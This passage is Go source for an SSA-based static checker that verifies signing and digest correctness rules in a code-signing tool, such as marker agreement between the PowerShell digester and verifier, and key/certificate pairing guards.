					Detail: "every " + finish + " of this encoder is deferred or has its result dropped: the encoder writes its last bytes (pending line, checksum, trailer) there, so a write error at the very end is swallowed, the function reports success and the caller commits an output whose tail is missing"})
			}
		}
	}
	return out
}

func shortCallee(s string) string {
	if i := strings.LastIndex(s, "/"); i >= 0 {
		return s[i+1:]
	}
	return s
}

// calleeNameFull: like calleeName but never module-relative (dependencies keep their import path).
func (p *Prog) calleeNameFull(c *ssa.CallCommon) string {
	if f := c.StaticCallee(); f != nil {
		if f.Pkg != nil && f.Signature.Recv() == nil {
			return f.Pkg.Pkg.Path() + "." + f.Name()
		}
		return f.String()
	}
	return ""
}

// ------------------------------------------------------------------------------ R02k

// digestedBytesNotTrimmed: nothing written into a digest is the result of a trimming function that
// removes blanks (bytes/strings TrimSpace, Trim/TrimRight/TrimLeft with a cutset holding a space or
// a tab, TrimFunc): a change confined to the removed characters leaves the digest, and with it the
// verdict, unchanged. Line-ending normalisation (cutsets of CR and LF only, TrimSuffix) is not judged.
func digestedBytesNotTrimmed(p *Prog) (out []gFinding) {
	isHashType := func(t types.Type) bool {
		s := types.TypeString(t, nil)
		return s == "hash.Hash" || s == "hash.Hash32" || s == "hash.Hash64"
	}
	// hash sinks: values of a hash type, and io.Writer parameters that receive one at some call site
	sinkParam := map[*ssa.Parameter]bool{}
	isSink := func(v ssa.Value) bool {
		v0 := v
		for i := 0; i < 4; i++ {
			if isHashType(v0.Type()) {
				return true
			}
			if pa, ok := v0.(*ssa.Parameter); ok && sinkParam[pa] {
				return true
			}
			switch x := v0.(type) {
			case *ssa.ChangeInterface:
				v0 = x.X
			case *ssa.MakeInterface:
				v0 = x.X
			case *ssa.Phi:
				for _, e := range x.Edges {
					if isHashType(e.Type()) {
						return true
					}
					if pa, ok := e.(*ssa.Parameter); ok && sinkParam[pa] {
						return true
					}
				}
				return false
			default:
				return false
			}
		}
		return false
	}
	for changed, round := true, 0; changed && round < 4; round++ {
		changed = false
		for _, fn := range p.Funcs {
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					ci, ok := in.(ssa.CallInstruction)
					if !ok {
						continue
					}
					sc := ci.Common().StaticCallee()
					if sc == nil || len(sc.Blocks) == 0 || !p.InModule(pkgOf(sc)) {
						continue
					}
					for k, a := range ci.Common().Args {
						if k < len(sc.Params) && types.TypeString(sc.Params[k].Type(), nil) == "io.Writer" && !sinkParam[sc.Params[k]] && isSink(a) {
							sinkParam[sc.Params[k]] = true
							changed = true
						}
					}
				}
			}
		}
	}
	trims := func(v ssa.Value) string {
		found := ""
		dependsOnNoCallArgs(v, func(x ssa.Value) bool {
			call, ok := x.(*ssa.Call)
			if !ok {
				return false
			}
			name := p.calleeName(call.Common())
			switch name {
			case "bytes.TrimSpace", "strings.TrimSpace", "bytes.TrimFunc", "strings.TrimFunc", "bytes.TrimRightFunc", "strings.TrimRightFunc", "bytes.TrimLeftFunc", "strings.TrimLeftFunc", "bytes.Fields", "strings.Fields":
				found = name
				return true
			case "bytes.Trim", "strings.Trim", "bytes.TrimRight", "strings.TrimRight", "bytes.TrimLeft", "strings.TrimLeft":
				cut, isC := constString(call.Common().Args[1])
				if !isC || strings.ContainsAny(cut, " \t") {
					found = fmt.Sprintf("%s(…, %q)", name, cut)
					return true
				}
			}
			return false
		})
		return found
	}
	for _, fn := range p.Funcs {
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				cc := ci.Common()
				var data ssa.Value
				switch {
				case cc.IsInvoke() && cc.Method.Name() == "Write" && len(cc.Args) == 1 && isSink(cc.Value):
					data = cc.Args[0]
				case !cc.IsInvoke() && p.calleeName(cc) == "io.WriteString" && isSink(cc.Args[0]):
					data = cc.Args[1]
				default:
					continue
				}
				n++
				how := trims(data)
				out = append(out, gFinding{Key: fmt.Sprintf("%s digest write#%d takes its bytes untrimmed", p.FName(fn), n), Pos: p.Pos(in.Pos()), OK: how == "",
					Detail: "what is written into the digest went through " + how + ", which removes blanks: a modification confined to spaces or tabs at the trimmed end of a line leaves the digest unchanged, so the altered document verifies under the original signature"})
			}
		}
	}
	return out
}

// dependsOnNoCallArgs: walks the operands of v backwards like dependsOn, testing calls but following only
// their first (data) argument, slices, conversions, phis and local cells.
func dependsOnNoCallArgs(v ssa.Value, pred func(ssa.Value) bool) bool {
	seen := map[ssa.Value]bool{}
	var walk func(v ssa.Value, d int) bool
	walk = func(v ssa.Value, d int) bool {
		if v == nil || seen[v] || d > 20 {
			return false
		}
		seen[v] = true
		if pred(v) {
			return true
		}
		switch x := v.(type) {
		case *ssa.Call:
			if len(x.Common().Args) > 0 && !x.Common().IsInvoke() {
				return walk(x.Common().Args[0], d+1)
			}
		case *ssa.Slice:
			return walk(x.X, d+1)
		case *ssa.Convert:
			return walk(x.X, d+1)
		case *ssa.ChangeType:
			return walk(x.X, d+1)
		case *ssa.Phi:
			for _, e := range x.Edges {
				if walk(e, d+1) {
					return true
				}
			}
		case *ssa.Extract:
			return walk(x.Tuple, d+1)
		case *ssa.UnOp:
			if a, ok := x.X.(*ssa.Alloc); ok && x.Op == token.MUL {
				for _, r := range *a.Referrers() {
					if st, ok := r.(*ssa.Store); ok && st.Addr == ssa.Value(a) && walk(st.Val, d+1) {
						return true
					}
				}
			}
		}
		return false
	}
	return walk(v, 0)
}

// ------------------------------------------------------------------------------ R02l

// psMarkerTestsAgree: the PowerShell digester (which decides where the signed text ends) and the
// verifier (which decides where the signature is read from) recognise the "Begin signature block"
// line by the same test: the line as read compared with the marker as built, or both through the
// same helper. A digester that is more lenient than the verifier stops at a line the verifier reads
// over, so text placed between that line and the real block is neither digested nor rejected.
func psMarkerTestsAgree(p *Prog) (out []gFinding) {
	shapeOf := func(fn *ssa.Function) (map[string]bool, string) {
		shapes := map[string]bool{}
		pos := ""
		chain := func(v ssa.Value) (string, string) {
			names := ""
			for i := 0; i < 6; i++ {
				switch x := v.(type) {
				case *ssa.Extract:
					if call, ok := x.Tuple.(*ssa.Call); ok {
						return names, fmt.Sprintf("%s#%d", shortCallee(p.calleeName(call.Common())), x.Index)
					}
					return names, ""
				case *ssa.Call:
					if len(x.Common().Args) == 0 {
						return names, ""
					}
					names += shortCallee(p.calleeName(x.Common())) + "("
					v = x.Common().Args[0]
				case *ssa.Phi:
					// a loop-carried or merged copy: take the first non-phi edge
					var next ssa.Value
					for _, e := range x.Edges {
						if _, isPhi := e.(*ssa.Phi); !isPhi {
							next = e
							break
						}
					}
					if next == nil {
						return names, ""
					}
					v = next
				default:
					return names, ""
				}
			}
			return names, ""
		}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				bo, ok := in.(*ssa.BinOp)
				if !ok || (bo.Op != token.EQL && bo.Op != token.NEQ) {
					continue
				}
				nx, sx := chain(bo.X)
				ny, sy := chain(bo.Y)
				var line, marker string
				switch {
				case strings.HasSuffix(sx, "readLine#0") && strings.HasSuffix(sy, "detectUtf16#1"):
					line, marker = nx, ny
				case strings.HasSuffix(sy, "readLine#0") && strings.HasSuffix(sx, "detectUtf16#1"):
					line, marker = ny, nx
				default:
					continue
				}
				shapes["line:"+line+" marker:"+marker] = true
				pos = p.Pos(bo.Pos())
			}
		}
		return shapes, pos
	}
	dig := p.Func("lib/authenticode.DigestPowershell")
	ver := p.Func("lib/authenticode.VerifyPowershell")
	if dig == nil || ver == nil {
		return []gFinding{{Key: "DigestPowershell / VerifyPowershell", Pos: "-", OK: false, Detail: "function not found"}}
	}
	ds, dpos := shapeOf(dig)
	vs, _ := shapeOf(ver)
	if len(ds) == 0 || len(vs) == 0 {
		return []gFinding{{Key: "PowerShell begin-marker tests", Pos: p.Pos(dig.Pos()), OK: false, Detail: fmt.Sprintf("no comparison of a line read by readLine with the begin marker found (digester %d, verifier %d)", len(ds), len(vs))}}
	}
	same := len(ds) == len(vs)
	for k := range ds {
		if !vs[k] {
			same = false
		}
	}
	return []gFinding{{Key: "DigestPowershell and VerifyPowershell recognise the begin marker by the same test", Pos: dpos, OK: same,
		Detail: fmt.Sprintf("the digester tests %v, the verifier %v: a line the digester takes for the start of the signature block and the verifier does not (another line ending) ends the digested text early, and whatever follows it up to the real block is executed by PowerShell but covered by no digest", sortedKeys(ds), sortedKeys(vs))}}
}

// ------------------------------------------------------------------------------ R15i

// callerContextHonoured: a token-layer function that is given a context runs none of its blocking
// steps under a fresh background context, neither directly nor through a helper that takes no
// context: a caller that was cancelled or timed out is not kept waiting, and the backend is not
// driven for a request that has gone.
func callerContextHonoured(p *Prog) (out []gFinding) {
	isCtx := func(t types.Type) bool { return types.TypeString(t, nil) == "context.Context" }
	hasCtxParam := func(fn *ssa.Function) bool {
		for _, pa := range fn.Params {
			if isCtx(pa.Type()) {
				return true
			}
		}
		return false
	}
	// background contexts handed to a call inside fn
	var background func(fn *ssa.Function, depth int, seen map[*ssa.Function]bool) string
	background = func(fn *ssa.Function, depth int, seen map[*ssa.Function]bool) string {
		if seen[fn] || len(fn.Blocks) == 0 {
			return ""
		}
		seen[fn] = true
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				if _, isGo := in.(*ssa.Go); isGo {
					continue // work handed to a goroutine that outlives the call is a different matter
				}
				for _, a := range ci.Common().Args {
					if !isCtx(a.Type()) {
						continue
					}
					for _, l := range ctxLeaves(p, a, map[ssa.Value]bool{}, nil) {
						if c, ok := l.(*ssa.Call); ok {
							switch p.calleeName(c.Common()) {
							case "context.Background", "context.TODO":
								return p.Pos(in.Pos())
							}
						}
					}
				}
				if depth > 0 {
					if sc := ci.Common().StaticCallee(); sc != nil && p.InModule(pkgOf(sc)) && !hasCtxParam(sc) {
						if at := background(sc, depth-1, seen); at != "" {
							return at
						}
					}
				}
			}
		}
		return ""
	}
	n := 0
	for _, fn := range p.Funcs {
		pk := pkgOf(fn)
		if pk == nil || !strings.Contains(p.Rel(pk.Path()), "token") || !hasCtxParam(fn) || fn.Parent() != nil {
			continue
		}
		n++
		at := background(fn, 2, map[*ssa.Function]bool{})
		out = append(out, gFinding{Key: p.FName(fn) + " runs its steps under the context it was given", Pos: p.Pos(fn.Pos()), OK: at == "",
			Detail: "a step of this function runs under context.Background() (" + at + ") although the function was given a context: a caller that is cancelled or times out while this step blocks (a limiter queue, a backend call) stays blocked, and the backend is still driven afterwards for a request that has gone"})
	}
	if n == 0 {
		out = append(out, gFinding{Key: "token-layer functions with a context parameter", Pos: "-", OK: false, Detail: "none found"})
	}
	return out
}

// ------------------------------------------------------------------------------ R15j

// workerAnswersInBody: the worker's client decodes the JSON answer - which carries the error, whether
// it may be retried and whether it is a key-usage error - only from a reply with status 200, and
// classifies every other status by its number. The worker's handler therefore writes the marshalled
// workerrpc.Response under status 200: no WriteHeader with another value can precede that write.
func workerAnswersInBody(p *Prog) (out []gFinding) {
	cl := p.Func("token/worker.(*WorkerToken).doOnce")
	sv := p.Func("cmdline/workercmd.(*handler).ServeHTTP")
	if cl == nil || sv == nil {
		return []gFinding{{Key: "worker doOnce / handler.ServeHTTP", Pos: "-", OK: false, Detail: "function not found"}}
	}
	// premise: the client's decode is behind StatusCode == 200
	premise := false
	for _, b := range cl.Blocks {
		for _, in := range b.Instrs {
			bo, ok := in.(*ssa.BinOp)
			if !ok || (bo.Op != token.EQL && bo.Op != token.NEQ) {
				continue
			}
			for _, pair := range [][2]ssa.Value{{bo.X, bo.Y}, {bo.Y, bo.X}} {
				if _, f, _ := p.fieldLoad(pair[0]); f == "StatusCode" {
					if k, ok := constInt(pair[1]); ok && k == 200 {
						premise = true
					}
				}
			}
		}
	}
	if !premise {
		return []gFinding{{Key: "the worker client decodes the answer of a 200 only", Pos: p.Pos(cl.Pos()), OK: false, Detail: "doOnce no longer compares the status with 200: the rule's premise is gone, re-derive it"}}
	}
	n := 0
	for _, body := range p.callsIn(sv, "(net/http.ResponseWriter).Write") {
		// only the write of the marshalled response
		isAnswer := dependsOn(body.Common().Args[0], func(x ssa.Value) bool {
			c, ok := x.(*ssa.Call)
			return ok && p.calleeName(c.Common()) == "encoding/json.Marshal"
		})
		if !isAnswer {
			continue
		}
		n++
		bad := ""
		for _, wh := range p.callsIn(sv, "(net/http.ResponseWriter).WriteHeader") {
			if !reachableAfter(sv, wh, body, nil, nil) {
				continue
			}
			for _, lf := range phiLeaves(wh.Common().Args[0], nil, map[*ssa.Phi]bool{}) {
				if k, ok := constInt(lf.V); !ok || k != 200 {
					bad = p.Pos(wh.Pos())
				}
			}
		}
		out = append(out, gFinding{Key: fmt.Sprintf("(*handler).ServeHTTP writes answer#%d under status 200", n), Pos: p.Pos(body.Pos()), OK: bad == "",
			Detail: "the marshalled workerrpc.Response is written after WriteHeader (" + bad + ") with a status that can differ from 200: the client ignores the body of such a reply, so the worker's verdict (do not retry, key-usage error) is lost - permanent errors are retried with backoff and a key-usage error no longer reaches the server's 400 answer"})
	}
	if n == 0 {
		out = append(out, gFinding{Key: "(*handler).ServeHTTP writes the marshalled answer", Pos: p.Pos(sv.Pos()), OK: false, Detail: "no ResponseWriter.Write of a json.Marshal result found"})
	}
	return out
}

// ------------------------------------------------------------------------------ R18k, R18l

// closePadsLastSector: ComDoc.Close sets the file length to the end of the last used sector whenever
// there is one: the Truncate both cuts a freed tail off and pads a last sector that a mini-stream
// write left partly filled. No path from "this sector is in use" to a successful return goes round it.
func closePadsLastSector(p *Prog) (out []gFinding) {
	fn := p.Func("lib/comdoc.(*ComDoc).Close")
	if fn == nil {
		return []gFinding{{Key: "(*ComDoc).Close", Pos: "-", OK: false, Detail: "function not found"}}
	}
	var truncs []ssa.CallInstruction
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			if ci, ok := in.(ssa.CallInstruction); ok {
				cc := ci.Common()
				name := ""
				if cc.IsInvoke() {
					name = cc.Method.Name()
				} else if sc := cc.StaticCallee(); sc != nil {
					name = sc.Name()
				}
				if name == "Truncate" {
					truncs = append(truncs, ci)
				}
			}
		}
	}
	if len(truncs) == 0 {
		return []gFinding{{Key: "(*ComDoc).Close sets the file length", Pos: p.Pos(fn.Pos()), OK: false, Detail: "no Truncate call found"}}
	}
	n := 0
	for _, b := range fn.Blocks {
		ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
		if !ok {
			continue
		}
		bo, ok := ifi.Cond.(*ssa.BinOp)
		if !ok || (bo.Op != token.NEQ && bo.Op != token.EQL) {
			continue
		}
		var elem ssa.Value
		for _, pair := range [][2]ssa.Value{{bo.X, bo.Y}, {bo.Y, bo.X}} {
			if k, ok := constInt(pair[1]); ok && k == -1 {
				elem = pair[0]
			}
		}
		if elem == nil {
			continue
		}
		l, ok := elem.(*ssa.UnOp)
		if !ok {
			continue
		}
		ia, ok := l.X.(*ssa.IndexAddr)
		if !ok {
			continue
		}
		if _, f, _ := p.fieldLoad(ia.X); f != "SAT" {
			continue
		}
		n++
		used := b.Succs[0]
		if bo.Op == token.EQL {
			used = b.Succs[1]
		}
		del := map[edge]bool{}
		for _, t := range truncs {
			for si := range t.Block().Succs {
				del[edge{t.Block().Index, si}] = true
			}
		}
		pred := map[int]int{}
		seen := reach(fn, []*ssa.BasicBlock{used}, del, pred)
		bad := ""
		for _, r := range p.successReturns(fn) {
			inTrunc := false
			for _, t := range truncs {
				if t.Block() == r.Block() {
					inTrunc = true
				}
			}
			if seen[r.Block().Index] && !inTrunc {
				bad = p.Pos(r.Pos())
			}
		}
		out = append(out, gFinding{Key: fmt.Sprintf("(*ComDoc).Close sets the length to the end of the last used sector #%d", n), Pos: p.Pos(ifi.Pos()), OK: bad == "",
			Detail: "from the point where the last used sector is found, Close can return successfully (" + bad + ") without calling Truncate: the call is what pads a last sector that was only partly written (the mini stream grew by a sector at the end of the file), so the file ends in the middle of an allocated, chained sector and independent readers reject it"})
	}
	// whatever the shape: no test that decides whether Truncate runs looks at the file's present size
	for i, t := range truncs {
		bad := ""
		for _, b := range fn.Blocks {
			ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
			if !ok || b == t.Block() || !b.Dominates(t.Block()) {
				continue
			}
			sized := dependsOn(ifi.Cond, func(x ssa.Value) bool {
				c, ok := x.(*ssa.Call)
				if !ok {
					return false
				}
				name := ""
				if c.Common().IsInvoke() {
					name = c.Common().Method.Name()
				} else if sc := c.Common().StaticCallee(); sc != nil {
					name = sc.Name()
				}
				return name == "Stat" || name == "Size" || name == "Seek"
			})
			if !sized {
				continue
			}
			// one side of the test goes round the call
			del := map[edge]bool{}
			for si := range t.Block().Succs {
				del[edge{t.Block().Index, si}] = true
			}
			for _, s := range b.Succs {
				seen := reach(fn, []*ssa.BasicBlock{s}, del, nil)
				for _, r := range p.successReturns(fn) {
					if seen[r.Block().Index] && r.Block() != t.Block() && s != t.Block() {
						bad = p.Pos(ifi.Pos())
					}
				}
			}
		}
		out = append(out, gFinding{Key: fmt.Sprintf("(*ComDoc).Close Truncate#%d does not hang on the file's present size", i+1), Pos: p.Pos(t.Pos()), OK: bad == "",
			Detail: "whether Close sets the file length is decided by a test of the file's present size (" + bad + "): a file that is shorter than the end of its last used sector - the mini stream grew by a sector at the end and only part of it was written - is left as it is, ending in the middle of an allocated, chained sector"})
	}
	if n == 0 {
		out = append(out, gFinding{Key: "(*ComDoc).Close looks for the last used sector", Pos: p.Pos(fn.Pos()), OK: true, Detail: "the scan of the sector table is not in Close itself (a helper computes the end): the path clause is not applicable, the size clause above was decided"})
	}
	return out
}

// walkersEmitStorageID: each walk over an MSI storage (the digest and the tar form of it) hands on
// the storage's UID on every successful path, an empty storage included.
func walkersEmitStorageID(p *Prog) (out []gFinding) {
	for _, spec := range []string{"lib/authenticode.hashMsiDir", "lib/authenticode.msiToTarDir"} {
		fn := p.Func(spec)
		if fn == nil {
			out = append(out, gFinding{Key: spec, Pos: "-", OK: false, Detail: "function not found"})
			continue
		}
		var emits []ssa.CallInstruction
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				for _, a := range ci.Common().Args {
					if sl, ok := a.(*ssa.Slice); ok {
						if _, f, _ := p.fieldAddr(sl.X); f == "UID" {
							emits = append(emits, ci)
						}
					}
				}
			}
		}
		key := p.FName(fn) + " hands on the storage UID on every successful path"
		if len(emits) == 0 {
			out = append(out, gFinding{Key: key, Pos: p.Pos(fn.Pos()), OK: false, Detail: "no call is given the storage's UID"})
			continue
		}
		del := map[edge]bool{}
		for _, e := range emits {
			for si := range e.Block().Succs {
				del[edge{e.Block().Index, si}] = true
			}
		}
		seen := reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, nil)
		bad := ""
		for _, r := range p.successReturns(fn) {
			inEmit := false
			for _, e := range emits {
				if e.Block() == r.Block() && instrIndex(e) < instrIndex(r) {
					inEmit = true
				}
			}
			if seen[r.Block().Index] && !inEmit {
				bad = p.Pos(r.Pos())
			}
		}
		out = append(out, gFinding{Key: key, Pos: p.Pos(emits[0].Pos()), OK: bad == "",
			Detail: "the walk can return successfully (" + bad + ") without handing on the storage's UID: the digest of an MSI covers the class id of every storage after its contents, empty storages included, so the tar form and the direct form of the digest differ for a package with such a storage and the file relic has just signed fails verification"})
	}
	return out
}
