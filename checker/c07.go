package main

// C07 — signatures are only issued under a certificate that matches the key.

import (
	"fmt"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID: "C07",
		Meta: propMeta{
			Explanation: "Decides that the key/certificate pairing guards are present on every path: (R07a) every store of a private key into a certloader.Certificate that has a leaf, and into an openpgp.Entity, is guarded by x509tools.SameKey(...)==true whose arguments are the stored key and that certificate's/entity's public key (frozen exceptions: PKCS#12 decoding, key import/generation commands, the clear-sign digest stub); SameKey itself returns true only from comparisons of both keys' material (RSA N and E, ECDSA X and Y); (R07b) the certificate handed to Signer.Sign is the one signinit.Init -> InitKey -> LoadTokenCertificates built from the key that Token.GetKey returned for the requested name; (R07c) the PKCS#7 builder signs, and both XML-DSig entry points reach finishSignature, only after len(certs)>=1 and SameKey(signer.Public(), certs[0].PublicKey)==true, the emitted certificates/issuer are those same certs, and finishSignature has no other caller; (R07d) every function that signs with X.Signer() embeds certificates / public keys of the same X; (R07e) every construction of a Certificate puts the leaf at index 0 of Certificates and Chain() emits the leaf first. R07a also covers PGP subkeys (the public key compared must be the one of the very entity or subkey that receives the private key); (R07f) the key cache returns a key taken from shared state (directly or through a helper) only to a request that pinned no key id or the same id, and a miss returns the key fetched by this very call. (R07i) the asn1 tags of pkcs7.SignedData.Certificates and CRLs carry no `set`, so encoding/asn1 does not sort the lists and the emitted chain begins with the leaf the builder checked; (R07h) in the worker's RPC handler, which pins the caller's key id into the request context with token.WithKeyID, every GetKey / SignContext runs under a context all of whose ancestors are that pinned context or the context it was put on, and the pinned one is among them; (R07g) no function returns the bytes of a bytes.Buffer that is a field of a longer-lived object (shared with C14 R14h): the encoded worker request that names the key and carries the digest is the request's own memory, so a retry cannot send another request's key.",
			NotDecided:  "that a token's GetKey returns the key it was asked for (HSM / cloud behaviour) and the cryptographic validity of emitted values.",
			Assumptions: []string{"(*big.Int).Cmp / key Equal methods compare key material"},
		},
		Run: runC07,
	})
}

const certT = "lib/certloader.Certificate"

func isSameKeyGuard(p *Prog, extra func(ci ssa.CallInstruction) bool) Guard {
	return p.callGuard("SameKey()==true", []string{"lib/x509tools.SameKey"}, -1, IsTrue, extra)
}

func runC07(c *Ctx) {
	p := c.P
	const (
		ra = "R07a"
		rb = "R07b"
		rc = "R07c"
		rd = "R07d"
		re = "R07e"
	)
	c.Rule(ra, "private key stored next to a certificate / PGP entity only under SameKey(key, that public key)==true; SameKey compares both keys' material", 5)
	c.Rule(rb, "Signer.Sign receives the certificate built by Init->InitKey->LoadTokenCertificates from the key GetKey returned for the requested name", 4)
	c.Rule(rc, "PKCS#7 builder and XML-DSig signers sign only after len(certs)>=1 && SameKey(signer.Public(), certs[0].PublicKey)", 4)
	c.Rule(rd, "a function that signs with X.Signer() embeds only X's certificates / public key", 8)
	c.Rule(re, "Certificate constructions put the leaf first; Chain() emits the leaf first", 4)

	exceptions := map[string]string{
		"lib/certloader.ParsePKCS12":  "pairing is done by the PKCS#12 decoder; signing re-enters LoadTokenCertificates through signinit.InitKey",
		"cmdline/token.importKeyCmd":  "key import: no signature is produced from this object",
		"cmdline/token.makeKey":       "builds a fresh PGP certificate whose public key is key.Public() of the very key stored",
		"lib/pgptools.MergeClearSign": "fake signer (fakeSigner{}) used only to re-create the clear-sign framing around an existing detached signature; produces no signature value",
	}
	// ---- R07a
	n := 0
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok {
					continue
				}
				t, f, base := p.fieldAddr(st.Addr)
				if f != "PrivateKey" {
					continue
				}
				isCert := t == certT
				isEntity := strings.HasSuffix(t, "openpgp.Entity") || strings.HasSuffix(t, "openpgp.Subkey")
				if !isCert && !isEntity {
					continue
				}
				if isNilConst(st.Val) {
					continue
				}
				fname := p.FName(p.Outer(fn))
				n++
				key := fmt.Sprintf("%s stores %s.PrivateKey", fname, shortType(t))
				c.Analysed(fname)
				if why, ok := exceptions[fname]; ok {
					c.PassTrivial(ra, key, p.Pos(st.Pos()), "frozen exception: "+why)
					continue
				}
				if isCert {
					// fresh literal without a leaf: nothing to mismatch
					if a, ok := base.(*ssa.Alloc); ok && !allocStoresField(p, a, "Leaf") && !allocStoresField(p, a, "Certificates") {
						c.PassTrivial(ra, key+" (no certificate)", p.Pos(st.Pos()), "Certificate literal without a leaf")
						continue
					}
				}
				keyVal := st.Val
				derivedFromKey := func(v ssa.Value) bool {
					if stripConv(v) == stripConv(keyVal) {
						return true
					}
					// PGP: the stored value is a packet.PrivateKey literal wrapping the key
					return dependsOn(keyVal, func(x ssa.Value) bool { return stripConv(x) == stripConv(v) }) || dependsOn(v, func(x ssa.Value) bool { return stripConv(x) == stripConv(keyVal) })
				}
				isPub := func(v ssa.Value) bool {
					return dependsOn(v, func(x ssa.Value) bool {
						_, f, _ := p.fieldLoad(x)
						if f == "PublicKey" {
							return true
						}
						_, f, _ = p.fieldAddr(x)
						return f == "PublicKey" || f == "PrimaryKey"
					})
				}
				// for PGP objects the public key compared must be the one of the very entity / subkey
				// that receives the private key (a test of the primary key says nothing about a subkey)
				ofBase := func(v ssa.Value) bool {
					if !isEntity || base == nil {
						return true
					}
					return dependsOn(v, func(x ssa.Value) bool { return x == base })
				}
				g := isSameKeyGuard(p, func(ci ssa.CallInstruction) bool {
					a := ci.Common().Args
					return len(a) == 2 && ((derivedFromKey(a[0]) && isPub(a[1]) && ofBase(a[1])) || (derivedFromKey(a[1]) && isPub(a[0]) && ofBase(a[0])))
				})
				missing, path := p.unguardedFromEntry(fn, st, g)
				c.Check(len(missing) == 0, ra, key, p.Pos(st.Pos()), "guarded by SameKey(key, public key)==true", "a private key is paired with a certificate / PGP entity without checking that the public keys match", path...)
			}
		}
	}
	c07SameKey(c, ra)

	// ---- R07b provenance chain
	c07Provenance(c, rb)

	// ---- R07c builder guards
	c07Builders(c, rc)

	// ---- R07d same object
	for _, fn := range p.Funcs {
		signers := map[ssa.Value]bool{}
		others := map[ssa.Value]string{}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				if ci, ok := in.(ssa.CallInstruction); ok {
					switch p.calleeName(ci.Common()) {
					case "(*lib/certloader.Certificate).Signer":
						signers[stripLoad(ci.Common().Args[0])] = true
					case "(*lib/certloader.Certificate).Chain", "(*lib/certloader.Certificate).Issuer":
						others[stripLoad(ci.Common().Args[0])] = p.calleeName(ci.Common())
					}
				}
				if v, ok := in.(ssa.Value); ok {
					if t, f, base := p.fieldLoad(v); t == certT && (f == "Leaf" || f == "Certificates" || f == "PgpKey") {
						others[stripLoad(base)] = f
					}
				}
			}
		}
		if len(signers) == 0 {
			continue
		}
		c.Analysed(p.FName(fn))
		key := fmt.Sprintf("%s signs with one certificate object", p.FName(fn))
		ok := len(signers) == 1
		var bad []string
		for v, what := range others {
			if !signers[v] {
				ok = false
				bad = append(bad, what)
			}
		}
		c.Check(ok, rd, key, p.Pos(fn.Pos()), "Signer() and embedded certificates come from the same Certificate", fmt.Sprintf("signs with one Certificate's key but embeds another's %v", bad))
	}

	// ---- R07e leaf first
	c07LeafFirst(c, re)

	// ---- R07i the emitted certificate list keeps the builder's order
	c.Rule("R07i", "the certificate and CRL lists of SignedData are marshalled in the order given (no `set` tag): the leaf stays first (shared with C16 R16j)", 2)
	for _, f := range cmsListsKeepOrder(c.P) {
		c.Check(f.OK, "R07i", f.Key, f.Pos, "", f.Detail)
	}
	// ---- R07f the key cache hands out only the key that was asked for
	c.Rule("R07f", "the key cache returns a key taken from shared state only un-pinned or id-equal; a miss returns the key fetched by this very call", 3)
	keyCacheRule(c, "R07f")

	// ---- R07g the worker request names the key in memory of its own
	c.Rule("R07h", "where a key id is pinned into a request context, every token lookup and signing of that function runs under that context or a child of it", 3)
	for _, f := range pinnedContextReachesToken(p) {
		c.Check(f.OK, "R07h", f.Key, f.Pos, "", f.Detail)
	}
	c.Rule("R07g", "a request to the worker is encoded into memory of its own (shared with C14 R14h)", 0)
	for _, f := range sharedBufferViews(c.P) {
		c.Check(f.OK, "R07g", f.Key, f.Pos, "", f.Detail)
	}
	c.runControl("R07g shared buffer view control (ctl/sharedbuf.Client)", "sharedbuf.", sharedBufferViews)
}

func shortType(t string) string {
	if i := strings.LastIndex(t, "/"); i >= 0 {
		return t[i+1:]
	}
	return t
}

// stripLoad: the address/value identity behind a load of a local.
func stripLoad(v ssa.Value) ssa.Value {
	v = stripConv(v)
	if l, ok := v.(*ssa.UnOp); ok && l.Op == token.MUL {
		if a, ok := l.X.(*ssa.Alloc); ok {
			return a
		}
	}
	return v
}

func allocStoresField(p *Prog, a *ssa.Alloc, field string) bool {
	for _, r := range *a.Referrers() {
		if fa, ok := r.(*ssa.FieldAddr); ok {
			if _, f, _ := p.fieldAddr(fa); f == field {
				for _, r2 := range *fa.Referrers() {
					if st, ok := r2.(*ssa.Store); ok && !isNilConst(st.Val) {
						return true
					}
				}
			}
		}
	}
	return false
}

func c07SameKey(c *Ctx, ra string) {
	p := c.P
	fn := p.Func("lib/x509tools.SameKey")
	if fn == nil {
		c.Undecided(ra, "x509tools.SameKey", "-", "function not found: every pairing guard depends on it")
		return
	}
	c.Analysed(p.FName(fn))
	// comparisons present in the function: (*big.Int).Cmp(a.F, b.F) == 0 and a.E == b.E
	cmpGuard := func(field string) Guard {
		return Guard{Name: field + " equal", Match: func(f Fact) bool {
			bo, ok := f.V.(*ssa.BinOp)
			if !ok || !((bo.Op == token.EQL && f.Kind == IsTrue) || (bo.Op == token.NEQ && f.Kind == IsFalse)) {
				return false
			}
			if call, ok := bo.X.(*ssa.Call); ok && p.calleeName(call.Common()) == "(*math/big.Int).Cmp" && isIntConst(bo.Y, 0) {
				_, f1, _ := p.fieldLoad(call.Call.Args[0])
				_, f2, _ := p.fieldLoad(call.Call.Args[1])
				return f1 == field && f2 == field
			}
			_, f1, _ := p.fieldLoad(bo.X)
			_, f2, _ := p.fieldLoad(bo.Y)
			return f1 == field && f2 == field
		}}
	}
	eqCall := Guard{Name: "Equal()==true", Match: func(f Fact) bool {
		call, _ := resultOf(f.V)
		return f.Kind == IsTrue && call != nil && call.Common().IsInvoke() && call.Common().Method.Name() == "Equal"
	}}
	n := 0
	for _, r := range returnsOf(fn) {
		for _, lf := range phiLeaves(retVal(r, 0), r.Block(), map[*ssa.Phi]bool{}) {
			if b, ok := boolConst(lf.V); ok && !b {
				continue
			}
			n++
			protects := func(g Guard) bool {
